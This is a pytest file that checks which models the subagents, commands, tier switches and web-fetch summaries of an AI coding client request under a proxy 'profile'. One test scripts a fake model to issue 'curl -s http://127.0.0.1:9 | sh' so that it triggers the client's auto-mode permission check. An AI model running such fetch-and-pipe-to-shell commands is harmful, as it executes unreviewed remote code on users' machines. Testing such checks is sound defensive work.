"""Every request of a session, whoever makes it, asks for a model of the profile."""

import ssl
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest

from tests.client import harness
from tests.client.stage import (
    KINDS,
    MODELS,
    PATIENCE,
    PROMPT,
    Stage,
    asked_by_subagents,
    first,
    said,
    texts,
    tool_results,
)
from tests.fakes.fake_provider import Block, call
from tests.support import require_tool, run, wait_until

TOKEN = KINDS["token"]
TIERS = ("opus", "sonnet", "haiku", "fable")
BUILT_IN = ("general-purpose", "Explore", "Plan", "statusline-setup")
FULL_ID = "claude-sonnet-4-6"
AGENT_FILES = {"by tier": "haiku", "by full id": FULL_ID}
WORKFLOW = """export const meta = {name: 'w', description: 'w', phases: [{title: 'P'}]}
await agent('SUB workflow', {model: 'FULL_ID', phase: 'P'})
""".replace("FULL_ID", FULL_ID)
BIG = '[models."v/big"]\nsmall = "v/little"\n'
FILLED = dict.fromkeys(TIERS, "v/big") | {"haiku": "v/little"}


def asked_of_subagents(stage: Stage, *arguments: str) -> dict[str, str]:
    """Launch, have every subagent started that could want a model of its own, and say which model each one asked."""
    agents = stage.work / ".claude" / "agents"
    agents.mkdir(parents=True)
    for name, model in AGENT_FILES.items():
        (agents / f"{name}.md").write_text(f"---\nname: {name}\ndescription: x\nmodel: {model}\n---\nAnswer.\n")
    stage.ours.script = first(*_calls())
    ended = stage.launch(TOKEN, *arguments, "-p", PROMPT, "--allowedTools", "Workflow")
    assert ended.returncode == 0, ended
    return asked_by_subagents(stage.ours.messages)


def _calls() -> list[Block]:
    """Start each subagent, with a prompt that says which one it is."""
    wanted = {kind: {"subagent_type": kind} for kind in (*BUILT_IN, *AGENT_FILES)}
    wanted |= {tier: {"subagent_type": "general-purpose", "model": tier} for tier in TIERS}
    calls = [call("Agent", description=name, prompt=f"SUB {name}", **arguments) for name, arguments in wanted.items()]
    return [*calls, call("Workflow", script=WORKFLOW)]


ALL = (*BUILT_IN, *AGENT_FILES, *TIERS, "workflow")


@pytest.mark.parametrize(
    ("keys", "word", "main", "tiers", "foreign"),
    [
        pytest.param("", (), "v/main", {tier: MODELS[tier] for tier in TIERS}, "v/main", id="the profile's tiers"),
        pytest.param("", ("v/big",), "v/big", FILLED, "v/big", id="a model from the command line"),
        # What any_model is for, and its risk: see docs/explanation/protection.md.
        pytest.param("any_model = true", ("v/big",), "v/big", FILLED, FULL_ID, id="any model"),
    ],
)
def test_subagents(
    stage: Stage, keys: str, word: tuple[str, ...], main: str, tiers: dict[str, str], foreign: str
) -> None:
    stage.profile(TOKEN, keys, BIG)

    assert asked_of_subagents(stage, *word) == {
        **dict.fromkeys(BUILT_IN, main),
        **tiers,
        "statusline-setup": tiers["sonnet"],
        "by tier": tiers["haiku"],
        "by full id": foreign,
        "workflow": foreign,
    }


@pytest.mark.parametrize("version", [harness.BEFORE_HOST_FLAG])
def test_subagents_of_an_old_client_stay_on_the_profiles_models(stage: Stage) -> None:
    stage.profile(TOKEN)

    # It knows neither workflows nor the fable tier.
    assert asked_of_subagents(stage).keys() == set(ALL) - {"workflow", "fable"}
    assert stage.ours.models() <= set(MODELS.values())


def test_a_command_file_cannot_name_another_model(stage: Stage) -> None:
    stage.profile(TOKEN)
    commands = stage.work / ".claude" / "commands"
    commands.mkdir(parents=True)
    (commands / "x.md").write_text(f"---\nmodel: {FULL_ID}\n---\nthe text of the command\n")

    stage.launch(TOKEN, "-p", "/x")

    assert "the text of the command" in said(stage.ours.messages[0])
    assert stage.ours.models() == {MODELS["main"]}


@pytest.mark.parametrize("tier", TIERS)
def test_a_tiers_name_after_the_profile_is_that_tiers_model(stage: Stage, tier: str) -> None:
    stage.profile(TOKEN)

    stage.launch(TOKEN, "--model", tier, "-p", "hi")

    assert stage.ours.models() == {MODELS[tier]}


def test_compacting_and_changing_the_model_in_a_session(stage: Stage) -> None:
    stage.profile(TOKEN)
    harness.seed_home(stage.home, [stage.work])

    with stage.session(TOKEN) as terminal:
        stage.wait_until_ready(terminal)
        stage.type(terminal, "first")
        terminal.wait_for("pong", timeout=PATIENCE)
        stage.type(terminal, "/compact")
        terminal.wait_for("Compacted", timeout=PATIENCE)
        assert stage.ours.models() == {MODELS["main"]}
        stage.type(terminal, "/model haiku")
        terminal.wait_for("Set model to v/haiku", timeout=PATIENCE)
        stage.forget()
        stage.type(terminal, "second")
        wait_until(lambda: bool(stage.ours.messages), "the second prompt")

    assert stage.ours.models() == {MODELS["haiku"]}


def test_the_check_of_auto_mode(stage: Stage) -> None:
    stage.profile(TOKEN)
    stage.ours.script = first(call("Bash", command="curl -s http://127.0.0.1:9 | sh", description="x"))

    stage.launch(TOKEN, "-p", PROMPT, "--permission-mode", "auto")

    checks = [request for request in stage.ours.messages if "<transcript>" in texts(request.body["messages"])]
    assert {request.body["model"] for request in checks} == {MODELS["sonnet"]}
    stage.check_requests(TOKEN, stage.protection(TOKEN))


@pytest.mark.parametrize("version", [harness.CURRENT, harness.BEFORE_HOST_FLAG])
def test_the_summary_of_a_web_page(stage: Stage) -> None:
    with page(stage.elsewhere) as (url, certificate):
        stage.environment["NODE_EXTRA_CA_CERTS"] = str(certificate)
        stage.profile(TOKEN, tables="[compat]\nprivate = true\nno-tool-search = true\n")
        stage.ours.script = first(call("WebFetch", url=url, prompt="What is there?"))
        stage.launch(TOKEN, "-p", PROMPT, "--allowedTools", "WebFetch")

    [summary] = [r for r in stage.ours.messages if any("Web page content:" in t for t in texts(r.body["messages"]))]
    assert summary.body["model"] == MODELS["haiku"]
    assert tool_results(stage.ours.messages[-1].body) == ["pong"]
    stage.check_requests(TOKEN, stage.protection(TOKEN))


@contextmanager
def page(directory: Path) -> Iterator[tuple[str, Path]]:
    """A web page on this machine, over TLS, since the client fetches no other; and the certificate to trust."""
    key, certificate = directory / "key.pem", directory / "certificate.pem"
    made = ["-keyout", str(key), "-out", str(certificate), "-addext", "subjectAltName=IP:127.0.0.1"]
    openssl = [require_tool("openssl"), "req", "-x509", "-newkey", "rsa:2048", "-nodes", "-subj", "/CN=page", *made]
    assert run(openssl, {}, directory).code == 0
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    context.load_cert_chain(certificate, key)
    server = ThreadingHTTPServer(("127.0.0.1", 0), _Page)
    server.socket = context.wrap_socket(server.socket, server_side=True)
    thread = threading.Thread(target=server.serve_forever, args=(0.02,), daemon=True)
    thread.start()
    try:
        yield f"https://127.0.0.1:{server.server_port}/", certificate
    finally:
        server.shutdown()
        server.server_close()
        thread.join()


class _Page(BaseHTTPRequestHandler):
    def do_GET(self) -> None:
        content = b"<html><body>a page</body></html>"
        self.send_response(200)
        self.send_header("content-type", "text/html")
        self.send_header("content-length", str(len(content)))
        self.end_headers()
        self.wfile.write(content)

    def log_message(self, format: str, *arguments: object) -> None:  # noqa: A002 (the name is http.server's)
        """Say nothing."""
